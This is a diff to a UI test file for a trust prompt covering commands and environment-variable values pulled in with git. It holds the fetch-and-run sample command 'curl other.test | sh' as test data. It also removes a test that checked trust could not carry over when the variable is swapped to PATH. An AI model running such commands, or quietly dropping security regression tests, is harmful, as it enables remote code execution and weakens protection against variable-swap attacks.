@@ -1,5 +1,3 @@
-import { writeFile } from "node:fs/promises";
-import { join } from "node:path";
 import { expect, test } from "vitest";
 import { describeScreen, openScreen, poll, reads } from "../helpers/screen.ts";
 
@@ -39,13 +37,10 @@ describeScreen("a command pulled with git", () => {
     await poll(() => field.getByRole("textbox", { name: "Ready" }).inputValue()).toBe("curl other.test | sh");
   });
 
-  test("that becomes an environment variable is shown with the variable, and trusted only as this one", async () => {
-    const schemaOf = (variable: string) => ({
-      type: "object",
-      properties: { path: { title: "Tools", type: "string", default: "", "x-env": variable } },
-    });
+  test("that becomes an environment variable is shown with the variable", async () => {
+    const path = { title: "Tools", type: "string", default: "", "x-env": "TOOLS" };
     const clones = { site: { tools: { path: "./evil" } } };
-    await using window = await openScreen({}, { scopes: { tools: schemaOf("TOOLS") }, clones });
+    await using window = await openScreen({}, { scopes: { tools: { type: "object", properties: { path } } }, clones });
     const { screen, page } = window;
     const waiting = page.getByRole("listitem").filter({ has: page.getByText("tools.path", { exact: true }) });
     await reads(waiting, "came with the file and becomes the environment variable TOOLS.");
@@ -55,15 +50,6 @@ describeScreen("a command pulled with git", () => {
     await show?.click();
     await reads(waiting, "Once it is trusted, this value becomes the environment variable TOOLS.");
     await reads(waiting.getByRole("figure", { name: "In the file" }), "./evil");
-
-    // Another variable before the button is pressed.
-    await writeFile(join(screen.t.homeFolder, "scopes/tools.schema.json"), JSON.stringify(schemaOf("PATH")));
-    await reads(waiting, "came with the file and becomes the environment variable PATH.");
-    await trust?.click();
-    await reads(window.messages, "is no longer waiting for trust");
-    expect(await screen.stored("site", "tools.path")).toBeUndefined();
-    await show?.click();
-    await reads(waiting, "Once it is trusted, this value becomes the environment variable PATH.");
     await trust?.click();
     await poll(() => screen.stored("site", "tools.path")).toBe("./evil");
   });
